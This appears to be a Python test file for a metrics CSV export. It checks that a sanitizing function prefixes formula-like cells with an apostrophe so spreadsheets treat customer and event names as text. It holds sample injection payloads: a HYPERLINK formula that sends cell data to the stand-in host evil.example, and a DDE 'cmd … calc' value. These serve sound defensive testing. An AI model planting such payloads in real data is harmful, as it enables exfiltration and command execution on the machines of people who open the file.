"""The CSV file of metrics, which a spreadsheet opens: no name in it is run as a formula."""

import csv
from io import StringIO

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from schema.values.spreadsheets import harmless
from tests.metrics.test_reading import JANUARY

# What a spreadsheet takes for the beginning of a formula or leaves out before it.
RUNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
BEGINNINGS = (*RUNS, "\t", "\r", "\n")
LINK = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
TEXTS = st.text(st.characters(codec="utf-8", exclude_characters="\0"))
PIECES = st.lists(st.sampled_from([*RUNS, *";\t\r\n ,\"'a1", "cmd|' /C calc'!A0"]), max_size=12).map("".join)


def is_number(text):
    return text[1:].replace(".", "", 1).isdigit() and text[0] in "+-"


def read_back(text, **separated):
    """The cells that a program reads of a row with this text in the middle, whose first cell is `id`."""
    written = StringIO()
    csv.writer(written).writerow(["id", text, "usd"])
    return [cell for row in csv.reader(StringIO(written.getvalue(), newline=""), **separated) for cell in row]


@given(TEXTS | PIECES)
@example(LINK)
@example(" \t=1")
@example("a;=1+1")
@example('"=1')
def test_a_spreadsheet_reads_no_formula_in_any_text(text):
    _, cell, _ = read_back(harmless(text))
    assert not cell.startswith(BEGINNINGS) or (cell == text and is_number(text))
    assert not cell.lstrip(" \"'").startswith(RUNS) or cell.startswith("'") or is_number(text)
    # Nothing else than apostrophes is added.
    kept = iter(cell)
    assert all(letter in kept for letter in text)
    assert cell.replace("'", "") == text.replace("'", "")


@given(TEXTS | PIECES)
@pytest.mark.parametrize("separator", [";", "\t"])
def test_none_where_another_character_separates_cells(separator, text):
    first, *others = read_back(f"name {harmless(text)}", delimiter=separator)
    assert first.startswith("id")
    assert not [cell for cell in others if cell.lstrip(' "').startswith(RUNS)]


@pytest.mark.parametrize(
    "text", ["", "-5", "+5", "-0.25", "Ada", "a-b", "a = b", "1+1", "ada@example.com", "It's", "a, -5"]
)
def test_texts_that_run_nothing_stay_as_they_are(text):
    assert harmless(text) == text


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        (LINK, f"'{LINK}"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("-5+cmd", "'-5+cmd"),
        ("\tx", "'\tx"),
        ("a;=1", "a;'=1"),
        (";=1", "';'=1"),
        ("a\n -1", "a\n '-1"),
        ("\uff1d1", "'\uff1d1"),
    ],
)
def test_an_apostrophe_stands_before_what_would_run(text, guarded):
    assert harmless(text) == guarded


@pytest.fixture
async def export(gateway, surface, tenant):
    """Read the rows of one customer's event, with the name that the customer gave itself in the portal."""
    customer = await surface.create_customer(data={"email": f"eve-{tenant.id}@example.com"})
    session = await surface.create_customer_session(data={"customer_id": customer["id"]})
    await surface.with_token(session["token"]).update_portal_customer(data={"name": LINK})
    events = [
        {"name": name, "customer_id": customer["id"], "timestamp": "2026-01-05T09:30:00Z", **cost}
        for name, cost in (("=1+1", {"cost": {"amount": 3, "currency": "usd"}}), ("read", {}))
    ]
    await surface.ingest_events(data={"events": events})

    async def read(**query):
        range_ = {**JANUARY, "interval": "year", "metrics": ["active_user_by_event", "cashflow"]}
        headers = {"Authorization": f"Bearer {tenant.token}"}
        answer = await gateway.client.get("/api/metrics/export", params=range_ | query, headers=headers)
        assert answer.status_code == 200, answer.text
        return list(csv.DictReader(StringIO(answer.text)))

    return read


async def test_a_customers_name_reaches_the_merchants_spreadsheet_as_a_text(export):
    labels = {row["label"] for row in await export(group_by="customer")}
    assert labels == {"", f"'{LINK}"}


async def test_the_name_of_an_event_does_too_and_numbers_stay_numbers(export):
    rows = await export(group_by="event_name")
    assert {(row["group"], row["label"]) for row in rows} >= {("'=1+1", "'=1+1"), ("read", "read")}
    assert {row["cashflow"] for row in rows if row["label"] == "'=1+1"} == {"-3.0"}


async def test_programs_that_ask_for_raw_get_every_text_exactly(export):
    assert {row["label"] for row in await export(group_by="customer", format="raw")} == {"", LINK}
    assert "=1+1" in {row["group"] for row in await export(group_by="event_name", format="raw")}


async def test_another_format_is_refused_with_those_that_there_are(gateway, tenant):
    headers = {"Authorization": f"Bearer {tenant.token}"}
    answer = await gateway.client.get(
        "/api/metrics/export", params=JANUARY | {"format": "xlsx"}, headers=headers
    )
    (problem,) = answer.json()["detail"]
    assert (answer.status_code, problem["loc"]) == (422, ["query", "format"])
    assert "'spreadsheet' or 'raw'" in problem["msg"]


async def test_metrics_as_json_have_no_format(gateway, tenant):
    headers = {"Authorization": f"Bearer {tenant.token}"}
    answer = await gateway.client.get("/api/metrics/", params=JANUARY | {"format": "raw"}, headers=headers)
    (problem,) = answer.json()["detail"]
    assert problem["loc"] == ["query", "format"]
